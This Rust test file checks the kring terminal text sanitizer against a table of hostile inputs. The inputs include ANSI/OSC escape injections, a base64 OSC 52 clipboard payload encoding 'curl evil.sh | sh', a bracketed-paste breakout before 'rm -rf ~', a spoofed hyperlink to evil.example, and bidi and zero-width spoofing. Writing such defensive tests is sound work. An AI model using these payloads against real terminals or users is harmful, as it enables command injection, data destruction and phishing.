//! The sanitizer against a table of hostile inputs. Each row names the
//! kind of attack it covers and the exact output expected; every row is also checked for the
//! invariants that hold for all input (no controls, idempotent, bounded growth).

use kring::text::SafeText;
use kring::text::sanitize::{MAX_GROWTH_FACTOR, sanitize, sanitize_paste, sanitize_with_report};

struct Row {
    kind: &'static str,
    what: &'static str,
    input: String,
    expected: String,
}

fn row(kind: &'static str, what: &'static str, input: &str, expected: &str) -> Row {
    Row {
        kind,
        what,
        input: input.to_owned(),
        expected: expected.to_owned(),
    }
}

fn zalgo(base: &str, marks: usize) -> String {
    let mut s = base.to_owned();
    for i in 0..marks {
        s.push(char::from_u32(0x300 + (i as u32 % 0x4f)).unwrap_or('\u{301}'));
    }
    s
}

#[rustfmt::skip]
fn display_rows() -> Vec<Row> {
    vec![
        row("controls", "CSI SGR colour", "\x1b[31mred\x1b[0m", "␛red␛"),
        row("controls", "CSI cursor up + erase line forges a line", "ok\x1b[1A\x1b[2Kforged", "ok␛␛forged"),
        row("controls", "CSI clear screen and home", "\x1b[2J\x1b[H", "␛␛"),
        row("controls", "CSI DEC private mode: mouse on", "\x1b[?1000h", "␛"),
        row("controls", "CSI DEC private mode: leave alt screen", "a\x1b[?1049lb", "a␛b"),
        row("controls", "bracketed paste end marker", "\x1b[201~rm -rf ~", "␛rm -rf ~"),
        row("controls", "OSC 0 title set, BEL", "\x1b]0;pwned\x07after", "␛after"),
        row("controls", "OSC 2 title set, ESC \\ (ST)", "\x1b]2;pwned\x1b\\after", "␛after"),
        row("controls", "OSC 52 clipboard write, BEL", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07", "␛"),
        row("controls", "OSC 52 clipboard write, 8-bit ST", "\x1b]52;c;aGk=\u{9c}x", "␛x"),
        row("controls", "OSC 8 hyperlink with a lying label", "\x1b]8;;https://evil.example\x1b\\bank.example\x1b]8;;\x1b\\", "␛bank.example␛"),
        row("controls", "OSC unterminated runs to end of input", "hi\x1b]0;title and the rest\nline two", "hi␛"),
        row("controls", "OSC ended by an ESC that starts a CSI", "\x1b]0;t\x1b[2Jx", "␛␛x"),
        row("controls", "OSC cancelled by CAN", "\x1b]0;t\x18x", "␛x"),
        row("osc", "OSC 9 notification", "\x1b]9;You have been hacked\x07", "␛"),
        row("osc", "OSC 777 notification", "\x1b]777;notify;t;b\x1b\\", "␛"),
        row("osc", "title payload that closes and reopens an OSC", "x\x07\x1b]0;pwn\x07", "x␇␛"),
        row("controls", "DCS DECRQSS echo-back request", "\x1bP$qm\x1b\\x", "␛x"),
        row("controls", "DCS unterminated", "\x1bP1;1|payload", "␛"),
        row("controls", "SOS string", "\x1bXhidden\x1b\\shown", "␛shown"),
        row("controls", "PM string, BEL", "\x1b^hidden\x07shown", "␛shown"),
        row("controls", "APC kitty graphics", "\x1b_Gf=100;AAAA\x1b\\shown", "␛shown"),
        row("controls", "8-bit CSI U+009B", "\u{9b}2Jx", "␛x"),
        row("controls", "8-bit OSC U+009D and ST U+009C", "\u{9d}0;t\u{9c}x", "␛x"),
        row("controls", "8-bit DCS U+0090", "\u{90}q\u{9c}x", "␛x"),
        row("controls", "8-bit SOS, PM, APC", "\u{98}a\u{9c}\u{9e}b\u{9c}\u{9f}c\u{9c}x", "␛␛␛x"),
        row("controls", "C1 NEL U+0085", "a\u{85}b", "a⟨U+0085⟩b"),
        row("controls", "stray 8-bit ST", "a\u{9c}b", "a⟨U+009C⟩b"),
        row("controls", "C1 from a cp1252 mix-up", "\u{93}q\u{94}", "⟨U+0093⟩q⟨U+0094⟩"),
        row("controls", "0x9C byte inside U+271C does not end an OSC", "\x1b]0;a✜b\x07c", "␛c"),
        row("controls", "lone ESC at end", "abc\x1b", "abc␛"),
        row("controls", "ESC ESC CSI", "\x1b\x1b[2J", "␛␛"),
        row("controls", "ESC c full reset", "\x1bcx", "␛x"),
        row("controls", "ESC ( 0 line-drawing charset", "\x1b(0lqk", "␛lqk"),
        row("controls", "nested and broken escapes", "\x1b[\x1b]0;\x1b[2J", "␛␛␛"),
        row("controls", "CSI broken by a newline", "\x1b[12\n3m", "␛\n3m"),
        row("controls", "CR overwrite trick", "rm -rf /\rls -la", "rm -rf /\nls -la"),
        row("controls", "CRLF", "a\r\nb", "a\nb"),
        row("controls", "CR CR LF", "a\r\r\nb", "a\n\nb"),
        row("controls", "backspace overwrite trick", "secret\x08\x08\x08\x08\x08\x08public", "secret␈␈␈␈␈␈public"),
        row("controls", "NUL", "a\0b", "a␀b"),
        row("controls", "DEL", "a\x7fb", "a␡b"),
        row("controls", "BEL", "ding\x07", "ding␇"),
        row("controls", "other C0: vertical tab, form feed", "a\x0bb\x0cc", "a␋b␌c"),
        row("controls", "TAB to 4-column stops", "a\tb\tc", "a   b   c"),
        row("controls", "TAB at a stop", "abcd\tx\n\ty", "abcd    x\n    y"),
        row("spoofing", "Trojan Source RLO in a file name", "user\u{202e}gnp.exe", "user⟨U+202E⟩gnp.exe"),
        row("controls", "bidi isolates", "\u{2066}a\u{2069}", "⟨U+2066⟩a⟨U+2069⟩"),
        row("controls", "bidi embeddings and marks", "\u{202a}\u{202b}\u{202c}\u{200e}\u{200f}\u{61c}", "⟨U+202A⟩⟨U+202B⟩⟨U+202C⟩⟨U+200E⟩⟨U+200F⟩⟨U+061C⟩"),
        row("spoofing", "ZWSP in pay\u{200b}pal", "pay\u{200b}pal", "pay⟨U+200B⟩pal"),
        row("controls", "ZWNJ between Latin letters", "pay\u{200c}pal", "pay⟨U+200C⟩pal"),
        row("controls", "ZWJ after ASCII", "a\u{200d}b", "a⟨U+200D⟩b"),
        row("controls", "ZWJ family emoji kept", "👨\u{200d}👩\u{200d}👧", "👨\u{200d}👩\u{200d}👧"),
        row("controls", "ZWJ with VS16 kept (heart on fire)", "❤\u{fe0f}\u{200d}🔥", "❤\u{fe0f}\u{200d}🔥"),
        row("controls", "ZWNJ in Persian kept", "می\u{200c}خواهم", "می\u{200c}خواهم"),
        row("controls", "ZWJ dangling after an emoji", "👨\u{200d}", "👨⟨U+200D⟩"),
        row("controls", "BOM", "\u{feff}hello", "⟨U+FEFF⟩hello"),
        row("controls", "soft hyphen", "pay\u{ad}pal", "pay⟨U+00AD⟩pal"),
        row("controls", "word joiner and invisible operators", "\u{2060}\u{2061}\u{2062}\u{2063}\u{2064}", "⟨U+2060⟩⟨U+2061⟩⟨U+2062⟩⟨U+2063⟩⟨U+2064⟩"),
        row("controls", "Mongolian vowel separator", "a\u{180e}b", "a⟨U+180E⟩b"),
        row("controls", "unassigned default-ignorable code points", "a\u{2065}b\u{fff0}c\u{e0080}", "a⟨U+2065⟩b⟨U+FFF0⟩c⟨U+E0080⟩"),
        row("controls", "Hangul filler as a blank name", "\u{3164}", "⟨U+3164⟩"),
        row("controls", "Tag characters smuggling ASCII", "hi\u{e0041}\u{e0042}", "hi⟨U+E0041⟩⟨U+E0042⟩"),
        row("controls", "subdivision flag kept", "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}", "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}"),
        row("controls", "variation selector run smuggling bytes", "😀\u{fe0f}\u{e0100}\u{e0101}", "😀\u{fe0f}⟨U+E0100⟩⟨U+E0101⟩"),
        row("controls", "VS16 emoji kept", "♻\u{fe0f}", "♻\u{fe0f}"),
        row("controls", "variation selector with no base", "\u{fe0f}x", "⟨U+FE0F⟩x"),
        row("controls", "variation selectors hidden after letters", "a\u{fe0f}b\u{e0100}", "a⟨U+FE0F⟩b⟨U+E0100⟩"),
        row("controls", "ideographic variation sequence kept", "葛\u{e0100}", "葛\u{e0100}"),
        row("controls", "keycap sequence kept", "1\u{fe0f}\u{20e3}", "1\u{fe0f}\u{20e3}"),
        row("size", "zalgo: 50 marks capped at 4", &zalgo("Z", 50), &format!("{}⟨+46⟩", zalgo("Z", 4))),
        row("controls", "200 combining marks", &zalgo("a", 200), &format!("{}⟨+196⟩", zalgo("a", 4))),
        row("controls", "Vietnamese stacked marks kept", "e\u{302}\u{301}", "e\u{302}\u{301}"),
        row("controls", "combining mark with no base", "\u{301}x", "◌\u{301}x"),
        row("controls", "line and paragraph separators", "a\u{2028}b\u{2029}c", "a\nb\nc"),
        row("size", "very long plain line", &"A".repeat(100_000), &"A".repeat(100_000)),
        row("controls", "many screen clears", &"\x1b[2J".repeat(10_000), &"␛".repeat(10_000)),
        row("controls", "kring's own markers are left as they are", "␛ ⟨U+200B⟩ ␀ ◌ ⟨+3⟩", "␛ ⟨U+200B⟩ ␀ ◌ ⟨+3⟩"),
        row("controls", "ordinary unicode text untouched", "Grüße, 日本語, café ✔ 👍🏽", "Grüße, 日本語, café ✔ 👍🏽"),
    ]
}

#[rustfmt::skip]
fn paste_rows() -> Vec<Row> {
    vec![
        row("paste", "paste smuggling a bracketed-paste end", "\x1b[201~echo pwned\n", "echo pwned\n"),
        row("paste", "paste with RLO and ZWSP still marked", "a\u{202e}b\u{200b}c", "a⟨U+202E⟩b⟨U+200B⟩c"),
        row("paste", "paste with OSC 52 and C1 CSI", "x\x1b]52;c;aGk=\x07y\u{9b}2Jz", "xyz"),
        row("paste", "paste keeps newlines, fixes CRLF, expands tabs", "a\r\n\tb\rc", "a\n    b\nc"),
        row("paste", "paste with NUL and DEL", "a\0b\x7f", "a␀b␡"),
    ]
}

fn assert_invariants(kind: &str, what: &str, input: &str, output: &str, again: &str) {
    assert!(
        output.chars().all(|c| c == '\n' || !c.is_control()),
        "{kind} {what}: control character left in {output:?}"
    );
    assert_eq!(again, output, "{kind} {what}: not idempotent");
    assert!(
        output.len() <= MAX_GROWTH_FACTOR * input.len(),
        "{kind} {what}: grew from {} to {} bytes",
        input.len(),
        output.len()
    );
}

#[test]
fn hostile_display_vectors() {
    let rows = display_rows();
    assert!(rows.len() >= 40, "the table holds at least 40 vectors");
    for Row {
        kind,
        what,
        input,
        expected,
    } in &rows
    {
        let output = sanitize(input);
        assert_eq!(&output, expected, "{kind} {what}: input {input:?}");
        assert_invariants(kind, what, input, &output, &sanitize(&output));
        assert_eq!(
            SafeText::new(input).as_str(),
            expected,
            "{kind} {what}: SafeText"
        );
    }
}

#[test]
fn hostile_paste_vectors() {
    for Row {
        kind,
        what,
        input,
        expected,
    } in &paste_rows()
    {
        let output = sanitize_paste(input);
        assert_eq!(&output, expected, "{kind} {what}: input {input:?}");
        assert_invariants(kind, what, input, &output, &sanitize_paste(&output));
        assert!(
            !output.contains('\u{1b}') && !output.contains('\u{202e}'),
            "{kind} {what}"
        );
    }
}

#[test]
fn zero_width_space_never_looks_like_the_plain_word() {
    // `pay\u{200b}pal` must not read as `paypal`.
    assert_ne!(sanitize("pay\u{200b}pal"), "paypal");
    assert_ne!(sanitize("pay\u{ad}pal"), "paypal");
}

#[test]
fn report_flags_hidden_and_reordered_text() {
    // Views show a warning marker for these.
    for hostile in [
        "user\u{202e}gnp.exe",
        "pay\u{200b}pal",
        "a\x1b[2Jb",
        "a\x08b",
        "hi\u{e0041}",
    ] {
        let (_, report) = sanitize_with_report(hostile);
        assert!(
            report.needs_warning(),
            "{hostile:?} should warn: {report:?}"
        );
    }
    for benign in [
        "plain text",
        "👨\u{200d}👩\u{200d}👧",
        "a\tb\r\nc",
        "می\u{200c}خواهم",
    ] {
        let (_, report) = sanitize_with_report(benign);
        assert!(
            !report.needs_warning(),
            "{benign:?} should not warn: {report:?}"
        );
    }
}

#[test]
fn report_counts_what_was_removed() {
    let (_, report) = sanitize_with_report(
        "\x1b]0;t\x07\x1b]52;c;x\x07\x1bPq\x1b\\\x1b[1m\u{85}\u{202e}\u{200b}",
    );
    assert_eq!(report.escape_sequences, 4);
    assert_eq!(report.osc_sequences, 2);
    assert_eq!(report.string_sequences, 1);
    assert_eq!(report.controls, 1);
    assert_eq!(report.bidi, 1);
    assert_eq!(report.invisible, 1);
    let (_, zalgo_report) = sanitize_with_report(&zalgo("Z", 30));
    assert_eq!(zalgo_report.dropped_marks, 26);
    assert!(sanitize_with_report("clean\ttext").1.is_clean());
}
